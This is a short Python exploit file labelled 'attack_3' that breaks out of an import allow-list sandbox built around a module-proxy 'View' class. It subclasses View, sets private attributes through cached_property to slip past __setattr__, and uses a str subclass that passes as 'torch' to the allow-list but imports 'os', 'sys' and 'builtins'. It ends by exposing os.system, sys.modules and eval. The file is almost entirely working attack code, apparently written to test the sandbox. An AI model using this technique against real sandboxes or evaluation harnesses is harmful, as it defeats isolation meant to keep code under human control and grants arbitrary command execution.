# attack_3: subclass the View class (type(torch)), skip its key check by overriding __init__,
# and fill its _lab/_module with functools.cached_property (writes the instance __dict__
# directly, past View.__setattr__). View.__getattr__ then does importlib.import_module(_module)
# for the file. (a) a View of another lab: dist.new_group in ring_allreduce;
# (b) a str subclass as _module that hashes/compares as "torch" (so RULES says "*") but
#     slices to "os" inside importlib.import_module -> the real os.system, sys.modules, ...
import functools
import torch


class Fake(str):  # "torch" to the allow-list, "os"/"sys" to importlib
    def __hash__(self):
        return hash("torch")

    def __eq__(self, other):
        return other == "torch"

    def __getitem__(self, key):  # import_module(name) calls _gcd_import(name[0:])
        return str(self)

    def startswith(self, *a):
        return False


def view(lab, module):
    class V(type(torch)):
        def __init__(self):
            pass

        _lab = functools.cached_property(lambda self: lab)
        _module = functools.cached_property(lambda self: module)

    self = V()
    self._lab, self._module  # materialise them in the instance __dict__
    return self


LEAK_new_group = view("zeropp", "torch.distributed").new_group  # for ring_allreduce
LEAK_TCPStore = view("ddp", Fake("torch.distributed")).TCPStore
LEAK_system = view("ddp", Fake("os")).system
LEAK_modules = view("ddp", Fake("sys")).modules
LEAK_os = LEAK_modules["os"]
LEAK_eval = view("ddp", Fake("builtins")).eval
